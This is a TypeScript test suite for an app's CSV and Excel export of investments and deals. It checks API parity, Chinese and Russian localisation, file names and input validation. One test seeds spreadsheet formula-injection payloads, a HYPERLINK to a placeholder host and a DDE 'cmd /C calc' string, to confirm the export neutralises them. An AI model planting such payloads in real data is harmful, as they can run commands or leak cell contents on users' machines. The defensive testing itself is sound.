import { parse } from 'csv-parse/sync';
import type { TypedDocumentNode } from '@graphql-typed-document-node/core';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadDemoData } from '../../seeds/demo/load-demo.js';
import { toGlobalId } from '../../server/src/graphql/global-id.js';
import { graphql } from '../__generated__/gql.js';
import type {
  DealFilter,
  DealOrder,
  ExportedDealsQuery,
  ExportedInvestmentsQuery,
  InvestmentFilter,
  InvestmentOrder,
  InvestmentStage,
} from '../__generated__/graphql.js';
import {
  countryLabel,
  DEAL_KIND_LABELS,
  DEAL_PARTY_ROLE_LABELS,
  INVESTMENT_STAGE_LABELS,
  SECTOR_RU,
  VERIFICATION_LABELS,
} from '../../server/src/domain/labels.js';
import { signedIn } from '../helpers/access.js';
import { Factory } from '../helpers/factories.js';
import { createTestServer, DIALECTS, graphQLBody, type GraphQLResponse, type TestServer } from '../helpers/server.js';

const ExportedInvestments = graphql(`
  query ExportedInvestments($f: InvestmentFilter, $o: [InvestmentOrder!], $a: String, $c: String!) {
    investments(filter: $f, orderBy: $o, first: 100, after: $a) {
      nodes {
        id
        organization {
          name {
            en
            zh
          }
          country
        }
        park {
          name {
            en
            zh
          }
        }
        sector {
          code
          name {
            en
            zh
          }
        }
        stage
        amount {
          amount
          currency
          amountUsd
          converted(currency: $c) {
            amount
            currency
          }
        }
        announcedOn
        expectedJobs
        verification
        recordedBy
        sources {
          quote
        }
      }
      pageInfo {
        hasNextPage
        endCursor
      }
    }
  }
`);

const ExportedDeals = graphql(`
  query ExportedDeals($f: DealFilter, $o: [DealOrder!], $a: String, $c: String!) {
    deals(filter: $f, orderBy: $o, first: 100, after: $a) {
      nodes {
        id
        signedOn
        title {
          en
        }
        kind
        parties {
          role
          organization {
            name {
              en
            }
            country
          }
        }
        unnamedPartyCount
        partyCount
        park {
          name {
            en
          }
        }
        event {
          name {
            en
          }
        }
        value {
          amount
          currency
          amountUsd
          converted(currency: $c) {
            amount
            currency
          }
        }
        verification
        recordedBy
        sources {
          quote
        }
      }
      pageInfo {
        hasNextPage
        endCursor
      }
    }
  }
`);

const ParkNames = graphql(`
  query ExportParkNames {
    parks(first: 100) {
      nodes {
        id
        slug
        name {
          en
          zh
        }
      }
    }
  }
`);

const ParkId = graphql(`
  query ExportParkId($s: String!) {
    park(slug: $s) {
      id
    }
  }
`);

const ExportRuPark = graphql(`
  query ExportRuPark($s: String!) {
    park(slug: $s) {
      id
      version
    }
  }
`);

const ExportRenamePark = graphql(`
  mutation ExportRenamePark($i: UpdateParkInput!) {
    updatePark(input: $i) {
      id
    }
  }
`);

const CreateOrganization = graphql(`
  mutation ExportCreateOrganization($i: CreateOrganizationInput!) {
    createOrganization(input: $i) {
      id
    }
  }
`);

const CreateInvestment = graphql(`
  mutation ExportCreateInvestment($i: CreateInvestmentInput!) {
    createInvestment(input: $i) {
      id
    }
  }
`);

/** A cell's value as text: strings and numbers as themselves, dates as their day (any other kind as its JSON). */
const cellText = (value: ExcelJS.CellValue): string =>
  value instanceof Date ? value.toISOString().slice(0, 10) : typeof value === 'object' ? JSON.stringify(value) : String(value);

/** The headers of the investments export in English, as a person reads them. */
const INVESTMENT_HEADERS = [
  'ID',
  'Investor',
  'Investor country',
  'Park',
  'Sector',
  'Stage',
  'Amount',
  'Currency',
  'Amount (USD)',
  'Amount in CNY (rate of 2026-11-24)',
  'Announced on',
  'Expected jobs',
  'Provenance',
  'Recorded by',
  'Source quote',
  'Investor country (code)',
  'Sector (code)',
  'Stage (code)',
  'Provenance (code)',
  'Reference',
  'Version',
];
/** Columns holding money, compared as numbers ("1500.2500" and "1500.25" are one amount). */
const INVESTMENT_MONEY = [6, 8, 9];
const DEAL_MONEY = [8, 10, 11];

describe.each(DIALECTS)('exporting investments and deals on %s', (dialect) => {
  let server: TestServer;
  beforeAll(async () => {
    server = await createTestServer(dialect);
    await loadDemoData(server.em(), { sizes: { organizations: 60, tenancies: 20, investments: 350, deals: 120 } });
  });
  afterAll(async () => {
    await server?.close();
  });

  /**
   * A record's reference and version as the database holds them (the API does not show the reference), read when the
   * API's row is built, so a record changed by an earlier test shows its version of now.
   */
  let identities = new Map<string, string[]>();
  const identity = (type: 'Investment' | 'Deal', id: string) => {
    const found = identities.get(id);
    if (!found) throw new Error(`${type} ${id} not read from the database`);
    return found;
  };
  async function readIdentities() {
    identities = new Map();
    for (const type of ['Investment', 'Deal'] as const) {
      const records = await server.em().find<{ id: number; externalKey: string | null; version: number }>(type, {});
      for (const r of records) identities.set(toGlobalId(type, r.id), [r.externalKey ?? '', String(r.version)]);
    }
  }

  /** Every matching investment from the API in the API's order, as the export's row states it (labels in `lang`). */
  async function apiRows(filter: InvestmentFilter, orderBy: InvestmentOrder[] = [], currency = 'CNY', lang: 'en' | 'zh' = 'en'): Promise<string[][]> {
    const rows: string[][] = [];
    await readIdentities();
    let after: string | null = null;
    for (;;) {
      const res: GraphQLResponse<ExportedInvestmentsQuery> = await server.gql(ExportedInvestments, { f: filter, o: orderBy, a: after, c: currency });
      expect(res.errors, res.body).toBeUndefined();
      if (!res.data) throw new Error(res.body);
      for (const n of res.data.investments.nodes) {
        rows.push([
          n.id,
          n.organization?.name[lang] ?? '',
          n.organization?.country ? countryLabel(n.organization.country)[lang] : '',
          n.park.name[lang],
          n.sector.name[lang],
          INVESTMENT_STAGE_LABELS[n.stage][lang],
          n.amount?.amount ?? '',
          n.amount?.currency ?? '',
          n.amount?.amountUsd ?? '',
          n.amount?.converted?.amount ?? '',
          n.announcedOn ?? '',
          n.expectedJobs == null ? '' : String(n.expectedJobs),
          VERIFICATION_LABELS[n.verification][lang],
          n.recordedBy ?? '',
          n.sources[0]?.quote ?? '',
          n.organization?.country ?? '',
          n.sector.code,
          n.stage,
          n.verification,
          ...identity('Investment', n.id),
        ]);
      }
      if (!res.data.investments.pageInfo.hasNextPage) return rows;
      after = res.data.investments.pageInfo.endCursor ?? null;
    }
  }
  const same = (money: number[]) => (row: string[]) => row.map((cell, i) => (money.includes(i) && cell !== '' ? String(Number(cell)) : cell));
  const url = (list: string, format: string, params: Record<string, string>) =>
    `${server.url}/export/${list}.${format}?${new URLSearchParams(params).toString()}`;
  const csvRows = async (res: Response) => parse((await res.text()).replace(/^\uFEFF/, ''), { relax_column_count: false });
  const workbookOf = async (res: Response) => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await res.arrayBuffer()); // JSZip reads the ArrayBuffer as it is
    return workbook;
  };
  const sheetRows = (sheet: ExcelJS.Worksheet, width: number) => {
    const rows: ExcelJS.Row[] = [];
    sheet.eachRow((row, n) => {
      if (n > 1) rows.push(row);
    });
    return {
      rows,
      text: rows.map((row) => Array.from({ length: width }, (_, i) => (row.getCell(i + 1).value == null ? '' : cellText(row.getCell(i + 1).value)))),
    };
  };
  const parks = async () => (await server.gql(ParkNames)).data!.parks.nodes;

  it('streams the rows the API answers for the same filter, period and order (the table’s), with a file name that reads like the view', async () => {
    const energy = (await parks()).find((p) => p.slug === 'sco-energy-valley')!;
    const filter: InvestmentFilter = { park: { id: { in: [energy.id] } }, organization: { country: { in: ['KZ', 'RU', 'CN'] } } };
    const res = await fetch(
      url('investments', 'csv', { filter: JSON.stringify(filter), from: '2024-01-01', to: '2026-11-24', orderBy: 'AMOUNT_USD_DESC', currency: 'CNY' }),
    );
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="investments-2024-01-01-to-2026-11-24-SCO-Energy-Valley-Kazakhstan-Russia-China.csv"; ` +
        `filename*=UTF-8''investments-2024-01-01-to-2026-11-24-SCO-Energy-Valley-Kazakhstan-Russia-China.csv`,
    );
    const [header, ...rows] = await csvRows(res);
    expect(header).toEqual(INVESTMENT_HEADERS);
    const expected = await apiRows({ ...filter, announcedOn: { gte: '2024-01-01', lte: '2026-11-24' } }, ['AMOUNT_USD_DESC']);
    expect(expected.length).toBeGreaterThan(10);
    // Each row carries what an import matches it by: the record's reference and its version.
    for (const row of rows) expect([row[19], row[20]]).toEqual([expect.stringMatching(/\S/), expect.stringMatching(/^[1-9]\d*$/)]);
    // Row by row in the API's order, column by column: every cell equals what the API answers for that investment.
    expect(rows.map(same(INVESTMENT_MONEY))).toEqual(expected.map(same(INVESTMENT_MONEY)));
    // The table's order really is a different order from the default one.
    expect(rows.map((r) => r[0])).not.toEqual([...rows.map((r) => r[0])].sort());
    const amounts = rows.map((r) => (r[8] === '' ? null : Number(r[8]))).filter((a) => a !== null);
    expect(amounts).toEqual([...amounts].sort((a, b) => b - a));
  });

  it('pages through more rows than one page holds, in any order, and writes Chinese headers and labels on request', async () => {
    const res = await fetch(url('investments', 'csv', { lang: 'zh', orderBy: 'STAGE_ASC,ANNOUNCED_ON_DESC' }));
    const [header, ...rows] = await csvRows(res);
    expect(header.slice(0, 6)).toEqual(['ID', '投资方', '投资方国家', '园区', '产业', '阶段']);
    const expected = await apiRows({}, ['STAGE_ASC', 'ANNOUNCED_ON_DESC'], 'USD', 'zh');
    expect(rows.length).toBeGreaterThan(300); // four pages of the API's 100
    expect(rows.map(same(INVESTMENT_MONEY))).toEqual(expected.map(same(INVESTMENT_MONEY)));
    expect(new Set(rows.map((r) => r[5]))).toEqual(new Set(['意向', '洽谈中', '已签约', '在建', '已投产']));
  });

  it('writes a workbook people can compute with: amounts are numbers in their currency’s format, dates are dates, stages are labels', async () => {
    const filter: InvestmentFilter = { sector: { eq: 'LOGISTICS' } };
    const res = await fetch(url('investments', 'xlsx', { filter: JSON.stringify(filter), currency: 'CNY', orderBy: 'ANNOUNCED_ON_ASC' }));
    expect(res.status).toBe(200);
    const workbook = await workbookOf(res);
    const sheet = workbook.worksheets[0];
    expect(sheet.getRow(1).values).toEqual([undefined, ...INVESTMENT_HEADERS]);
    const { rows, text } = sheetRows(sheet, INVESTMENT_HEADERS.length);
    const expected = await apiRows(filter, ['ANNOUNCED_ON_ASC']);
    expect(text.map(same(INVESTMENT_MONEY))).toEqual(expected.map(same(INVESTMENT_MONEY)));
    expect(rows.length).toBeGreaterThan(50);
    for (const [i, row] of rows.entries()) {
      const api = expected[i];
      const cell = (n: number) => row.getCell(n + 1);
      // Labels for people, codes for machines.
      expect(cell(5).type).toBe(ExcelJS.ValueType.String);
      expect(cell(5).value).toBe(INVESTMENT_STAGE_LABELS[api[17] as InvestmentStage].en);
      expect(cell(4).value).toBe('Logistics & transport');
      expect(cell(16).value).toBe('LOGISTICS');
      if (api[6] !== '') {
        // The amount: a number, formatted in its own currency; then USD; then the display currency.
        expect(cell(6).type).toBe(ExcelJS.ValueType.Number);
        expect(cell(6).value).toBe(Number(api[6]));
        expect(cell(6).numFmt).toBe(api[7] === 'JPY' ? '#,##0 "JPY"' : `#,##0.00 "${api[7]}"`);
        expect(cell(8).numFmt).toBe('#,##0.00 "USD"');
        expect(cell(9).type).toBe(ExcelJS.ValueType.Number);
        expect(cell(9).numFmt).toBe('#,##0.00 "CNY"');
      } else expect(cell(6).type).toBe(ExcelJS.ValueType.Null);
      if (api[10] !== '') {
        expect(cell(10).type).toBe(ExcelJS.ValueType.Date);
        expect(cell(10).value).toEqual(new Date(`${api[10]}T00:00:00Z`));
      }
      if (api[11] !== '') expect(cell(11).type).toBe(ExcelJS.ValueType.Number);
    }
    // SUM works: the CNY column adds up to the API's amounts converted to CNY.
    const total = rows.reduce((sum, row) => {
      const value = row.getCell(10).value;
      return sum + (typeof value === 'number' ? value : 0);
    }, 0);
    const apiTotal = expected.reduce((sum, r) => sum + (r[9] === '' ? 0 : Number(r[9])), 0);
    expect(total).toBeCloseTo(apiTotal, 2);
  });

  it('says the filter in sentences with names, in the reader’s language, and names the file in it too', async () => {
    const energy = (await parks()).find((p) => p.slug === 'sco-energy-valley')!;
    const filter: InvestmentFilter = { park: { id: { in: [energy.id] } }, stage: { in: ['SIGNED', 'OPERATING'] }, verification: { in: ['DEMO'] } };
    const params = { filter: JSON.stringify(filter), from: '2025-12-02', to: '2026-11-24', orderBy: 'AMOUNT_USD_DESC', currency: 'CNY' };
    const en = await fetch(url('investments', 'xlsx', params));
    const about = (await workbookOf(en)).worksheets[1];
    const lines = about
      .getColumn(1)
      .values.filter((v) => v != null)
      .map(cellText);
    const count = (await apiRows({ ...filter, announcedOn: { gte: '2025-12-02', lte: '2026-11-24' } })).length;
    expect(lines).toEqual([
      `${count} investments, exported on 2026-11-24.`,
      'Park is SCO Energy Valley.',
      'Stage is Signed or Operating.',
      'Provenance is Demo data.',
      'Announcement date is from 2025-12-02 to 2026-11-24.',
      'Sorted: largest amount (in US dollars) first.',
      expect.stringMatching(/^Amounts in CNY are converted from the stored US-dollar amounts at the rate of 2026-11-24: 1 CNY = 0\.\d+ USD/),
    ]);
    expect(lines.join('\n')).not.toContain(energy.id);
    expect(en.headers.get('content-disposition')).toContain(
      'filename="investments-2025-12-02-to-2026-11-24-SCO-Energy-Valley-Signed-Operating-Demo-data.xlsx"',
    );

    const zh = await fetch(url('investments', 'xlsx', { ...params, lang: 'zh' }));
    const disposition = zh.headers.get('content-disposition')!;
    // An ASCII name for every client, and the Chinese one (percent-encoded UTF-8) for those that read filename*.
    expect(disposition).toContain('filename="investments-2025-12-02-to-2026-11-24-SCO-Energy-Valley-Signed-Operating-Demo-data.xlsx"');
    expect(decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(disposition)![1])).toBe('投资项目-2025-12-02-至-2026-11-24-上合能谷-已签约-已投产-演示数据.xlsx');
    const book = await workbookOf(zh);
    expect(book.worksheets[0].getCell('F1').value).toBe('阶段');
    expect(book.worksheets[0].getCell('F2').value).toMatch(/^(已签约|已投产)$/);
    const zhLines = book.worksheets[1]
      .getColumn(1)
      .values.filter((v) => v != null)
      .map(cellText);
    expect(zhLines.slice(1, 5)).toEqual(['园区为上合能谷。', '阶段为已签约或已投产。', '数据来源为演示数据。', '公布日期自2025-12-02至2026-11-24。']);
  });

  /** Every matching deal from the API in the API's order, as the deals export's row states it (English). */
  async function apiDeals(filter: DealFilter, orderBy: DealOrder[], currency: string): Promise<string[][]> {
    const rows: string[][] = [];
    await readIdentities();
    let after: string | null = null;
    for (;;) {
      const res: GraphQLResponse<ExportedDealsQuery> = await server.gql(ExportedDeals, { f: filter, o: orderBy, a: after, c: currency });
      expect(res.errors, res.body).toBeUndefined();
      if (!res.data) throw new Error(res.body);
      for (const d of res.data.deals.nodes) {
        const parties = d.parties.map(
          (p) =>
            `${p.organization.name.en}${p.organization.country ? ` (${countryLabel(p.organization.country).en})` : ''} · ${DEAL_PARTY_ROLE_LABELS[p.role].en}`,
        );
        if (d.unnamedPartyCount) parties.push(`${d.unnamedPartyCount} unnamed ${d.unnamedPartyCount === 1 ? 'party' : 'parties'}`);
        rows.push([
          d.id,
          d.signedOn,
          d.title.en,
          DEAL_KIND_LABELS[d.kind].en,
          parties.join('; '),
          String(d.partyCount),
          d.park?.name.en ?? '',
          d.event?.name.en ?? '',
          d.value?.amount ?? '',
          d.value?.currency ?? '',
          d.value?.amountUsd ?? '',
          d.value?.converted?.amount ?? '',
          VERIFICATION_LABELS[d.verification].en,
          d.recordedBy ?? '',
          d.sources[0]?.quote ?? '',
          d.kind,
          [...new Set(d.parties.map((p) => p.organization.country).filter(Boolean))].join(' '),
          d.verification,
          ...identity('Deal', d.id),
        ]);
      }
      if (!res.data.deals.pageInfo.hasNextPage) return rows;
      after = res.data.deals.pageInfo.endCursor ?? null;
    }
  }

  it('exports the deals the deals page lists for its filter, with their parties, as CSV and as a typed workbook', async () => {
    // The deals page's filter for "a party from Kazakhstan, signed in 2024 or later", in the page's order.
    const filter: DealFilter = { party: { country: { eq: 'KZ' } }, signedOn: { gte: '2024-01-01' } };
    const params = { filter: JSON.stringify(filter), orderBy: 'SIGNED_ON_DESC', currency: 'USD' };
    const expected = await apiDeals(filter, ['SIGNED_ON_DESC'], 'USD');
    expect(expected.length).toBeGreaterThan(3);

    const csv = await fetch(url('deals', 'csv', params));
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-disposition')).toContain('filename="deals-from-2024-01-01-Kazakhstan.csv"');
    const [header, ...rows] = await csvRows(csv);
    expect(header.slice(0, 6)).toEqual(['ID', 'Signed on', 'Title', 'Kind', 'Parties', 'Number of parties']);
    expect(rows.map(same(DEAL_MONEY))).toEqual(expected.map(same(DEAL_MONEY)));
    for (const row of rows) expect(row[4]).toContain('(Kazakhstan)');

    const xlsx = await fetch(url('deals', 'xlsx', params));
    const workbook = await workbookOf(xlsx);
    const { rows: cells, text } = sheetRows(workbook.worksheets[0], 20);
    expect(text.map(same(DEAL_MONEY))).toEqual(expected.map(same(DEAL_MONEY)));
    for (const row of cells) {
      expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Date);
      expect(row.getCell(6).type).toBe(ExcelJS.ValueType.Number);
      if (row.getCell(9).value != null) expect(row.getCell(12).numFmt).toBe('#,##0.00 "USD"');
    }
    const lines = workbook.worksheets[1]
      .getColumn(1)
      .values.filter((v) => v != null)
      .map(cellText);
    expect(lines.slice(1, 3)).toEqual(['A party’s country is Kazakhstan.', 'Signing date is on or after 2024-01-01.']);
  });

  it('neutralises text that a spreadsheet would run as a formula, in CSV and XLSX, and keeps numbers numbers', async () => {
    const officer = (await signedIn(server, 'OFFICER', '@Officer')).token;
    const ok = async <TResult, TVariables>(document: TypedDocumentNode<TResult, TVariables>, variables: TVariables): Promise<TResult> => {
      const res = await server.gql(document, variables, officer);
      expect(res.errors, res.body).toBeUndefined();
      if (!res.data) throw new Error(res.body);
      return res.data;
    };
    const park = (await ok(ParkId, { s: 'sco-energy-valley' })).park?.id ?? '';
    const names = ['=HYPERLINK("http://x.example/"&A2,"Click me")', "+cmd|' /C calc'!A0"];
    const ids: string[] = [];
    for (const name of names) {
      const org = (
        await ok(CreateOrganization, {
          i: { nameZh: name, nameEn: name, kind: 'COMPANY', country: 'KZ' },
        })
      ).createOrganization.id;
      const inv = await ok(CreateInvestment, {
        i: {
          organization: org,
          park,
          sector: 'LOGISTICS',
          stage: 'SIGNED',
          amount: { amount: '1500.25', currency: 'USD' },
          announcedOn: '2025-03-01',
          expectedJobs: 40,
        },
      });
      ids.push(inv.createInvestment.id);
    }
    // A negative amount (written past the API, which refuses one) stays a number; a name starting with "-" does not.
    const factory = new Factory(server.em());
    const negative = factory.investment(factory.park().entity, {
      organization: factory.organization({ nameEn: '-2+3', nameZh: '-2+3' }),
      amountMinor: -150_025n,
      amountCurrency: 'USD',
      amountUsdMinor: -150_025n,
    });
    await factory.flush();
    ids.push(toGlobalId('Investment', negative.id));
    const params = { filter: JSON.stringify({ id: { in: ids } }), orderBy: 'ID_ASC', currency: 'USD' };

    const csv = await fetch(url('investments', 'csv', params));
    expect(csv.status).toBe(200);
    const text = (await csv.text()).replace(/^\uFEFF/, '');
    const lines = text.trim().split(/\r?\n/);
    expect(lines).toHaveLength(4);
    // csv-stringify quotes fields holding quotes; the cell's text starts with the single quote either way.
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://x.example/""&A2,""Click me"")"`);
    expect(lines[1]).toContain(`,Signed,1500.25,USD,1500.25,1500.25,2025-03-01,40,Recorded,'@Officer,`);
    expect(lines[2]).toContain(`,'+cmd|' /C calc'!A0,`);
    expect(lines[3]).toContain(`,'-2+3,`);
    expect(lines[3]).toContain(`,-1500.25,USD,-1500.25,-1500.25,`);
    for (const line of lines.slice(1)) expect(line).not.toMatch(/(^|,)"?[=+@\t\r]/);

    const xlsx = await fetch(url('investments', 'xlsx', params));
    expect(xlsx.status).toBe(200);
    const sheet = (await workbookOf(xlsx)).worksheets[0];
    const rows = [2, 3, 4].map((n) => sheet.getRow(n));
    expect(rows.map((r) => r.getCell(2).value)).toEqual([`'${names[0]}`, `'${names[1]}`, "'-2+3"]);
    expect(rows.map((r) => r.getCell(2).type)).toEqual([ExcelJS.ValueType.String, ExcelJS.ValueType.String, ExcelJS.ValueType.String]);
    expect(rows.map((r) => r.getCell(7).value)).toEqual([1500.25, 1500.25, -1500.25]);
    expect(rows.map((r) => r.getCell(9).type)).toEqual([ExcelJS.ValueType.Number, ExcelJS.ValueType.Number, ExcelJS.ValueType.Number]);
    expect(rows[0].getCell(12).value).toBe(40);
    expect(rows[0].getCell(14).value).toBe("'@Officer");
    sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
  });

  it('writes Russian headers, labels and names for a Russian reader (asked by lang or by Accept-Language), Chinese and English as before', async () => {
    const officer = (await signedIn(server, 'OFFICER', 'Анна Иванова')).token;
    const energy = (await server.gql(ExportRuPark, { s: 'sco-energy-valley' })).data!.park!;
    const renamed = await server.gql(ExportRenamePark, { i: { id: energy.id, version: energy.version, nameRu: 'Энергетическая долина ШОС' } }, officer);
    expect(renamed.errors, renamed.body).toBeUndefined();
    const filter: InvestmentFilter = { park: { id: { in: [energy.id] } }, stage: { in: ['SIGNED', 'OPERATING'] } };
    const params = { filter: JSON.stringify(filter), orderBy: 'ID_ASC', currency: 'CNY' };
    const [enHeader, ...english] = await csvRows(await fetch(url('investments', 'csv', { ...params, lang: 'en' }), { headers: { 'Accept-Language': 'ru' } }));
    expect(enHeader).toEqual(INVESTMENT_HEADERS);
    expect(english.length).toBeGreaterThan(3);
    expect(english[0][3]).toBe('SCO Energy Valley');

    const ru = await fetch(url('investments', 'csv', { ...params, lang: 'ru' }));
    expect(ru.status).toBe(200);
    const [header, ...rows] = await csvRows(ru);
    expect(header).toEqual([
      'ID',
      'Инвестор',
      'Страна инвестора',
      'Парк',
      'Отрасль',
      'Стадия',
      'Сумма',
      'Валюта',
      'Сумма (USD)',
      'Сумма в CNY (курс на 2026-11-24)',
      'Дата объявления',
      'Ожидаемые рабочие места',
      'Происхождение',
      'Кем внесено',
      'Цитата из источника',
      'Страна инвестора (код)',
      'Отрасль (код)',
      'Стадия (код)',
      'Происхождение (код)',
      'Код записи',
      'Версия',
    ]);
    expect(rows.map((r) => r[0])).toEqual(english.map((r) => r[0]));
    for (const [i, row] of rows.entries()) {
      // The officer's Russian name of the park; investors without one keep their English name, as the interface shows them.
      expect(row[3]).toBe('Энергетическая долина ШОС');
      expect(row[1]).toBe(english[i][1]);
      expect(row[2]).toBe(row[15] ? countryLabel(row[15]).ru : '');
      expect(row[4]).toBe(SECTOR_RU[row[16] as keyof typeof SECTOR_RU]);
      expect(row[5]).toBe(INVESTMENT_STAGE_LABELS[row[17] as InvestmentStage].ru);
      expect(row[12]).toBe(VERIFICATION_LABELS[row[18] as keyof typeof VERIFICATION_LABELS].ru);
      // Codes, amounts and dates are the same in every language.
      expect([row[6], row[7], row[10], row[15], row[16], row[17], row[18], row[19], row[20]]).toEqual(
        [6, 7, 10, 15, 16, 17, 18, 19, 20].map((n) => english[i][n]),
      );
    }
    expect(new Set(rows.map((r) => r[5]))).toEqual(new Set(['Подписано', 'Эксплуатация']));
    expect(rows.some((r) => r[2] === 'Россия' || r[2] === 'Казахстан' || r[2] === 'Китай')).toBe(true);

    // A link without lang follows the browser's languages (lang, when given, wins: the English file above).
    const byBrowser = await fetch(url('investments', 'csv', params), { headers: { 'Accept-Language': 'fr-FR,ru;q=0.9,en;q=0.8' } });
    expect((await csvRows(byBrowser))[0].slice(0, 6)).toEqual(['ID', 'Инвестор', 'Страна инвестора', 'Парк', 'Отрасль', 'Стадия']);
    const [zhHeader, zhRow] = await csvRows(await fetch(url('investments', 'csv', { ...params, lang: 'zh' })));
    expect(zhHeader.slice(0, 6)).toEqual(['ID', '投资方', '投资方国家', '园区', '产业', '阶段']);
    expect(zhRow[3]).toBe('上合能谷');

    // The workbook: sheets, the filter in Russian words, and a Russian file name beside the ASCII one.
    const xlsx = await fetch(url('investments', 'xlsx', { ...params, lang: 'ru' }));
    const disposition = xlsx.headers.get('content-disposition')!;
    expect(disposition).toContain('filename="investments-SCO-Energy-Valley-Signed-Operating.xlsx"');
    expect(decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(disposition)![1])).toBe('инвестиции-Энергетическая-долина-ШОС-Подписано-Эксплуатация.xlsx');
    const book = await workbookOf(xlsx);
    expect(book.worksheets.map((w) => w.name)).toEqual(['Инвестиции', 'Об этой выгрузке']);
    expect(book.worksheets[0].getCell('D2').value).toBe('Энергетическая долина ШОС');
    const lines = book.worksheets[1]
      .getColumn(1)
      .values.filter((v) => v != null)
      .map(cellText);
    expect(lines).toEqual([
      `Инвестиции: ${rows.length}, выгружено 2026-11-24.`,
      'Парк: Энергетическая долина ШОС.',
      'Стадия: Подписано или Эксплуатация.',
      'Порядок: сначала старые записи.',
      expect.stringMatching(/^Суммы в CNY пересчитаны из сохранённых сумм в долларах США по курсу на 2026-11-24: 1 CNY = 0\.\d+ USD/),
    ]);

    // Deals: kinds, parties' roles and countries in Russian.
    const deals = await fetch(url('deals', 'csv', { filter: JSON.stringify({ party: { country: { eq: 'KZ' } } }), lang: 'ru' }));
    const [dealHeader, ...dealRows] = await csvRows(deals);
    expect(dealHeader.slice(0, 8)).toEqual(['ID', 'Дата подписания', 'Название', 'Вид', 'Стороны', 'Число сторон', 'Парк', 'Мероприятие']);
    expect(dealRows.length).toBeGreaterThan(3);
    for (const row of dealRows) {
      expect(row[3]).toBe(DEAL_KIND_LABELS[row[15] as keyof typeof DEAL_KIND_LABELS].ru);
      expect(row[4]).toContain('(Казахстан)');
      expect(row[4]).toMatch(
        new RegExp(
          `· (${Object.values(DEAL_PARTY_ROLE_LABELS)
            .map((l) => l.ru)
            .join('|')})`,
        ),
      );
    }
  });

  it('refuses a bad parameter with a clear 400 naming it, with a stable reason, before any row', async () => {
    for (const [list, params, field, reason] of [
      ['investments', { filter: '{"stage": {"in": ["NOPE"]}}' }, 'filter', 'INVALID'],
      ['investments', { filter: '{"unknownField": 1}' }, 'filter', 'INVALID'],
      ['investments', { filter: 'not json' }, 'filter', 'INVALID'],
      ['investments', { filter: '{"park": {"id": {"eq": "nonsense"}}}' }, 'filter.park.id', 'INVALID'],
      ['investments', { orderBy: 'AMOUNT_USD_DESC,SIDEWAYS' }, 'orderBy', 'INVALID'],
      ['investments', { orderBy: 'SIGNED_ON_DESC' }, 'orderBy', 'INVALID'],
      ['investments', { from: '2025-02-01', to: '2025-01-01' }, 'from', 'DATE_ORDER'],
      ['investments', { from: '2025-02-30', to: '2025-03-01' }, 'from', 'INVALID'],
      ['investments', { currency: 'XYZ' }, 'currency', 'UNKNOWN_CURRENCY'],
      ['investments', { currency: 'JPY' }, 'currency', 'NO_RATE'],
      ['investments', { lang: 'fr' }, 'lang', 'UNSUPPORTED'],
      ['deals', { filter: '{"stage": {"eq": "SIGNED"}}' }, 'filter', 'INVALID'],
      ['deals', { orderBy: 'AMOUNT_USD_DESC' }, 'orderBy', 'INVALID'],
    ] as const) {
      const res = await fetch(url(list, 'csv', params));
      expect(res.status, JSON.stringify(params)).toBe(400);
      const body = await graphQLBody(res);
      expect(body.errors?.[0].extensions, JSON.stringify(params)).toMatchObject({ code: 'BAD_USER_INPUT', field, reason });
      expect(JSON.stringify(body)).not.toMatch(/\bat .+\.ts:\d+/);
    }
    expect((await fetch(`${server.url}/export/investments.pdf`)).status).toBe(400);
    expect((await fetch(`${server.url}/export/deals.pdf`)).status).toBe(400);
  });
});
